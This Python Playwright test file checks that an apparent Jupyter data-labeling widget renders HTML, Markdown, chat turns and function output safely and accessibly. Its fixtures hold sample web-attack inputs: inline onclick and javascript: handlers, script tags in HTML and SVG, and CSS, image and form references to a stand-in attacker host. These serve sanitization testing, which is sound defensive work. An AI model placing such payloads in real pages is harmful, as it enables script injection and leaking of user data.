"""HTML, Markdown, conversations and what functions make, in real pages: shown, answered, harmless."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Locator, expect

from tests.browser import accessibility
from tests.browser.attacks import ATTACKS, DRAWINGS
from tests.browser.conftest import Notebooks
from tests.browser.labeler import Labeler
from tests.browser.surroundings import ScriptAlarm
from tests.browser.test_accessibility import THEMES

START = """
import json, pathlib, threading
import loopwidgets as lw, pandas as pd
from IPython.display import HTML, Markdown, SVG
"""
LABELS = "labels=['good', 'bad', 'unclear'], annotator='asha'"


def show(jupyter: Notebooks, cell: str) -> Labeler:
    notebook = jupyter([START + cell, "w"])
    notebook.run(0)
    notebook.run(1)
    labeler = Labeler(notebook=notebook)
    labeler.focus()
    return labeler


def rich(labeler: Labeler) -> Locator:
    """The elements that stand in the page for an item; Playwright looks into shadow roots."""
    return labeler.part("rich")


MAIL = """
<style>
  @import url(http://attacker.invalid/a.css);
  p { color: rgb(1, 2, 3) } body, :host, .lw-label { display: none !important }
  h2 { background: url(http://attacker.invalid/b.png); position: fixed; top: 0 }
</style>
<h2>Your order</h2>
<p onclick="alert(1)">Hello <a href="https://example.org/order">order 5</a>,
<a href="javascript:alert(1)">run</a></p>
<img src="http://attacker.invalid/c.png" alt="a logo">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs=" alt="a dot">
<form action="http://attacker.invalid"><input name="q"><button>Send</button></form>
<table><tr><th>Item</th><th>Price</th></tr><tr><td>Rain gauge</td><td>12</td></tr></table>
"""


def test_html_is_shown_and_answered_by_keys_alone_and_its_styles_stay_inside(
    lab: Notebooks,
) -> None:
    labeler = show(
        lab,
        f"df = pd.DataFrame({{'mail': [{MAIL!r}, '<p>second</p>', '<b>third</b>']}}, index=[1, 2, 3])\n"
        f"w = lw.annotate(df, view=lw.Html('mail'), {LABELS})",
    )
    alarm = ScriptAlarm(labeler.page)
    shown = rich(labeler)
    expect(shown.locator("h2")).to_have_text("Your order")
    expect(shown.locator("p")).to_have_css("color", "rgb(1, 2, 3)")
    expect(shown.locator("h2")).to_have_css("background-image", "none")
    expect(shown.locator("a[href]")).to_have_count(1)
    expect(shown.locator("a[href]")).to_have_attribute("target", "_blank")
    expect(shown.locator(".lw-absent")).to_have_text("[picture: a logo]")
    expect(shown.locator("img")).to_have_count(1)
    expect(shown.locator("form, input, button, [onclick]")).to_have_count(0)
    expect(shown).to_contain_text("Send")
    expect(labeler.label("good")).to_be_visible()
    box, place = shown.locator("h2").bounding_box(), labeler.part("item").bounding_box()
    assert box is not None
    assert place is not None
    assert place["y"] <= box["y"] < place["y"] + place["height"]
    labeler.press("1")
    expect(rich(labeler)).to_have_text("second")
    labeler.press("2", "z", "3")
    expect(rich(labeler).locator("b")).to_have_text("third")
    labeler.press("s")
    labeler.wait_until_saved()
    assert labeler.labels() == {1: "good", 2: "unclear", 3: None}
    labeler.press("ArrowLeft")
    expect(rich(labeler)).to_have_text("second")
    labeler.press("/")
    labeler.part("find-text").fill("gauge")
    expect(labeler.root).to_contain_text("1 item matches")
    labeler.press("Enter")
    expect(rich(labeler).locator("h2")).to_have_text("Your order")
    alarm.assert_silent()
    assert labeler.notebook.errors == []


TALKS = """
def talk(turns, last):
    told = [
        {"role": ("user", "assistant")[n % 2], "content": f"Turn **{n}** of a talk.\\n\\n- one\\n- two"}
        for n in range(turns - 1)
    ]
    return [*told, {"role": "assistant", "content": last}]

df = pd.DataFrame(
    {"talk": [talk(30, "The `last` turn."), talk(100, "Another last turn."), talk(2, "Short.")]},
    index=[1, 2, 3],
)
"""


def test_the_turn_that_is_asked_about_is_in_sight_and_marked(lab: Notebooks) -> None:
    labeler = show(
        lab, f"{TALKS}w = lw.annotate(df, view=lw.Chat('talk', turn='last'), task=lw.Rating(1, 5))"
    )
    turns = labeler.part("turn")
    asked = labeler.root.locator("[data-lw=turn][aria-current=true]")
    expect(turns).to_have_count(30)
    expect(asked).to_contain_text("The last turn.")
    expect(asked).to_contain_text("asked about")
    expect(asked.locator("code")).to_have_text("last")
    assert is_whole_in_sight(labeler, asked)
    labeler.press("4")
    expect(asked).to_contain_text("Another last turn.")
    expect(turns).to_have_count(40)
    assert is_whole_in_sight(labeler, asked)
    labeler.part("earlier").click()
    expect(turns).to_have_count(100)
    labeler.root.focus()
    labeler.press("2")
    expect(turns).to_have_count(2)
    expect(turns.first.locator("strong")).to_have_text("0")
    labeler.press("ArrowLeft")
    expect(asked).to_contain_text("Another last turn.")
    assert is_whole_in_sight(labeler, asked)
    assert labeler.notebook.errors == []


@pytest.mark.usefixtures("context")
def test_a_conversation_goes_on_after_a_reload(lab: Notebooks) -> None:
    labeler = show(
        lab, f"{TALKS}w = lw.annotate(df, view=lw.Chat('talk', turn='last'), task=lw.Rating(1, 5))"
    )
    labeler.press("4")
    labeler.wait_until_saved()
    labeler.notebook.save()
    labeler.notebook.reload()
    asked = labeler.root.locator("[data-lw=turn][aria-current=true]")
    expect(asked).to_contain_text("Another last turn.")
    labeler.focus()
    assert is_whole_in_sight(labeler, asked)
    labeler.press("2")
    expect(asked).to_contain_text("Short.")
    labeler.wait_until_saved()
    assert labeler.labels() == {1: 4, 2: 2}


def is_whole_in_sight(labeler: Labeler, turn: Locator) -> bool:
    own, place = turn.bounding_box(), labeler.part("item").bounding_box()
    assert own is not None
    assert place is not None
    return place["y"] <= own["y"] and own["y"] + own["height"] <= place["y"] + place["height"]


MADE = f"""
from matplotlib.figure import Figure
free = threading.Event()

def made(kind):
    if kind == "figure":
        figure = Figure(figsize=(4, 3))
        figure.subplots().plot([1, 3, 2])
        return figure
    if kind == "table":
        return pd.DataFrame({{"animal": ["weevil", "bee"], "legs": [6, 6]}})
    if kind == "styled":
        frame = pd.DataFrame({{"a": [1, 2]}})
        return frame.style.set_properties(**{{"color": "rgb(200, 0, 0)"}})
    if kind == "html":
        return HTML("<p>of <i>IPython</i></p><script>alert(1)</script>")
    if kind == "markdown":
        return Markdown("- [x] done")
    if kind == "svg":
        return SVG("<svg xmlns='http://www.w3.org/2000/svg' width='40' height='30'>"
                   "<script>alert(1)</script><rect width='40' height='30' fill='lime'/></svg>")
    if kind == "text":
        return "<b>plain</b>"
    if kind == "widget":
        import ipywidgets
        return ipywidgets.IntSlider()
    if kind == "hangs":
        free.wait(60)
        return "it came at last"
    raise ValueError(f"no {{kind}}")

kinds = ["figure", "table", "styled", "html", "markdown", "svg", "text", "widget", "raises", "hangs", "text "]
df = pd.DataFrame({{"kind": kinds}}, index=range(1, len(kinds) + 1))
w = lw.annotate(df, view=lw.Custom(made, "kind", seconds=3), {LABELS})
"""


def test_each_thing_that_a_function_makes_is_shown_or_a_card(lab: Notebooks) -> None:
    labeler = show(lab, MADE)
    alarm = ScriptAlarm(labeler.page)
    picture = labeler.root.locator(".lw-made img")
    problem = labeler.part("problem")
    expect(picture).to_have_js_property("complete", value=True)
    assert picture.evaluate("image => image.naturalWidth") > 500
    labeler.part("made").click()
    expect(labeler.part("made")).to_have_attribute("aria-expanded", "true")
    labeler.root.focus()
    labeler.press("1")
    expect(rich(labeler).locator("tbody tr")).to_have_count(2)
    labeler.press("1")
    expect(rich(labeler).locator("tbody td").first).to_have_css("color", "rgb(200, 0, 0)")
    labeler.press("1")
    expect(rich(labeler)).to_have_text("of IPython")
    labeler.press("1")
    expect(rich(labeler).locator("li")).to_have_text("☑ done")
    labeler.press("1")
    expect(picture).to_have_js_property("naturalWidth", 40)
    labeler.press("1")
    expect(labeler.root.locator(".lw-text")).to_have_text("<b>plain</b>")
    labeler.press("1")
    expect(problem).to_contain_text("returned IntSlider: a live widget")
    labeler.press("s")
    expect(problem).to_contain_text("Your function made raised ValueError: no raises (line")
    labeler.press("s")
    expect(problem).to_contain_text("Your function made has not come back within 3 seconds.")
    labeler.notebook.execute("free.set()")
    labeler.part("again").click()
    expect(labeler.root.locator(".lw-text")).to_have_text("it came at last")
    labeler.label("bad").click()
    labeler.wait_until_saved()
    made = labeler.labels()
    assert [made[n] for n in range(1, 11)] == ["good"] * 7 + [None, None, "bad"]
    alarm.assert_silent()
    assert labeler.notebook.errors == []


VIEWS = {
    "html": "lw.annotate(attacks, view=lw.Html(), labels=['a', 'b'])",
    "markdown": "lw.annotate(attacks, view=lw.Markdown(), labels=['a', 'b'])",
    "chat": (
        "lw.annotate(pd.Series([[{'role': one, 'content': one}] for one in attacks]), "
        "view=lw.Chat(turn='last'), labels=['a', 'b'])"
    ),
    "custom text": "lw.annotate(attacks, view=lw.Custom(str), labels=['a', 'b'])",
    "custom html": "lw.annotate(attacks, view=lw.Custom(HTML), labels=['a', 'b'])",
    "custom raises": "lw.annotate(attacks, view=lw.Custom(int), labels=['a', 'b'])",
}

TOUCH = """root => {
    const all = (from) => [...from.querySelectorAll('*')].flatMap(
        (one) => one.shadowRoot ? [one, ...all(one.shadowRoot)] : [one]);
    const inside = all(root.querySelector('[data-lw=item]'));
    for (const one of inside) {
        for (const kind of ['mouseover', 'focus', 'toggle', 'load', 'error', 'begin'])
            one.dispatchEvent(new Event(kind));
        if (one.matches('a, button, summary')) one.click();
    }
    const bad = 'script, iframe, object, embed, form, input, link, meta, base, video, audio, svg, math';
    return inside.filter((one) => one.matches(bad) || one.hasAttribute('autofocus')
        || [...one.attributes].some(({ name }) => name.startsWith('on'))).map((one) => one.outerHTML);
}"""


@pytest.mark.parametrize("view", VIEWS)
def test_none_of_sixty_attacks_runs_or_calls_another_host(lab: Notebooks, view: str) -> None:
    notebook = lab([START, f"attacks = json.loads({json.dumps(ATTACKS)!r})\nw = {VIEWS[view]}\nw"])
    alarm = ScriptAlarm(notebook.page)
    notebook.run(0)
    notebook.run(1)
    labeler = Labeler(notebook=notebook)
    labeler.focus()
    for number in range(len(ATTACKS)):
        labeler.expect_progress(number, len(ATTACKS))
        assert labeler.root.evaluate(TOUCH) == []
        labeler.root.focus()
        labeler.press("s" if labeler.part("problem").count() else "1")
        if number % 10 == 9:
            alarm.assert_silent()
        if view == "custom raises":
            break
    alarm.assert_silent()
    assert notebook.errors == []


def test_no_script_in_a_drawing_that_a_function_makes_runs(lab: Notebooks) -> None:
    given = f"drawings = json.loads({json.dumps(DRAWINGS)!r})\n"
    notebook = lab(
        [START, f"{given}w = lw.annotate(drawings, view=lw.Custom(SVG), labels=['a', 'b'])\nw"]
    )
    alarm = ScriptAlarm(notebook.page)
    notebook.run(0)
    notebook.run(1)
    labeler = Labeler(notebook=notebook)
    labeler.focus()
    for number in range(len(DRAWINGS)):
        labeler.expect_progress(number, len(DRAWINGS))
        if labeler.part("problem").count() == 0:
            expect(labeler.root.locator(".lw-made img")).to_have_js_property("naturalWidth", 40)
        assert labeler.root.locator("[data-lw=item] :is(svg, script, iframe)").count() == 0
        labeler.root.focus()
        labeler.press("s" if labeler.part("problem").count() else "1")
    alarm.assert_silent()
    assert notebook.errors == []


SHOWN = {
    "html": f"lw.annotate([{MAIL!r}, 'x'], view=lw.Html(), {LABELS})",
    "markdown": (
        "lw.annotate(['# A note\\n\\n> quoted\\n\\n1. one\\n2. `two`\\n\\n```py\\nx = 1\\n```\\n\\n"
        "| a | b |\\n|-|-:|\\n"
        f"| 1 | 2 |\\n\\n[a link](https://example.org) and ![a leaf](https://example.org/leaf.png)'], "
        f"view=lw.Markdown(), {LABELS})"
    ),
    "chat": f"lw.annotate(df, view=lw.Chat('talk', turn='last'), {LABELS})",
    "custom": "w",
}


@pytest.mark.skipif(not accessibility.AXE.exists(), reason="axe-core is not installed")
@pytest.mark.parametrize("view", SHOWN)
def test_axe_finds_nothing_in_any_theme(lab: Notebooks, view: str) -> None:
    given = {"chat": TALKS, "custom": MADE}.get(view, "")
    labeler = show(lab, f"{given}\nw = {SHOWN[view]}")
    found = {}
    for theme in THEMES:
        accessibility.use_theme(labeler.page, theme)
        found[theme] = accessibility.violations(labeler.page)
    assert {theme: what for theme, what in found.items() if what} == {}
